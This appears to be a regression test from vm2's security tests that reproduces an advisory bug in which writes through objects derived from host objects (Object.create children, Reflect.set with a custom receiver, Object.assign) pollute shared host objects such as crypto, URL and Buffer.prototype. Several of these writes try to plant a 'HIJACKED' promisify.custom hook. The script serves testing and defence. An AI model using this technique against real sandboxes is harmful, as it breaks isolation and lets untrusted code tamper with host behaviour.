// Source: vm2 test/ghsa/GHSA-c4cf-2hgv-2qv6/repro.js (fixed after vm2 3.11.2, by 3.12.2): the bridge `set` trap ignored
// the receiver, so a write to `Object.create(hostObject)` landed on the host object itself (e.g. a
// `nodejs.util.promisify.custom` hook on a host function). The host objects this sandbox shares
// across runs are the targets.
// Tried: writes through Object.create children (one and two levels), Reflect.set with a custom
// receiver and Object.assign onto a child, for a marker and the promisify.custom symbol.
const out = {};
const targets = { hashFn: crypto.createHash, crypto, URL, 'URL.prototype': URL.prototype, 'Buffer.prototype': Buffer.prototype, TextEncoder };
const kCustom = Symbol.for('nodejs.util.promisify.custom');
for (const [name, target] of Object.entries(targets)) {
  const writes = {
    child: () => { const child = Object.create(target); child.__wrPolluted = 'x'; child[kCustom] = () => 'HIJACKED'; },
    grandchild: () => { Object.create(Object.create(target)).__wrPolluted = 'x'; },
    reflectSet: () => { Reflect.set(target, '__wrPolluted', 'x', { __proto__: null }); Reflect.set(target, kCustom, () => 'HIJACKED', { __proto__: null }); },
    assign: () => Object.assign(Object.create(target), { __wrPolluted: 'x' }),
  };
  for (const [how, write] of Object.entries(writes)) {
    try { write(); out[name + '.' + how] = 'ran'; } catch (e) { out[name + '.' + how] = String(e.message).slice(0, 40); }
  }
  try { if (Object.prototype.hasOwnProperty.call(target, '__wrPolluted')) __wr.flag(name + ' gained a property through a child write'); } catch (e) {}
}
return out;
